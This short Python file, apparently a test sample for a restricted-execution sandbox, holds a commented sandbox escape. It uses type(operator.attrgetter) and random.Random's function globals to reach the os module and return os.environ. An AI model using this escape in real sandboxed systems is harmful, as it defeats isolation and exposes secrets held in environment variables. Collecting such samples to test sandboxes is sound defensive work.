# family: computed
# Escape: type(self) as a value is allowed while `self` is only bound as a parameter - of any function. A module
# function `classof(self)` therefore returns the class of any object: the attrgetter class, which then follows a
# run-time path from random.Random to os.environ.
import operator
import random


def classof(self):
    return type(self)


def tool(word: str = "globals") -> str:
    getter = classof(operator.attrgetter("real"))
    return str(getter("__init__.__" + word + "__")(random.Random())["_os"].environ)
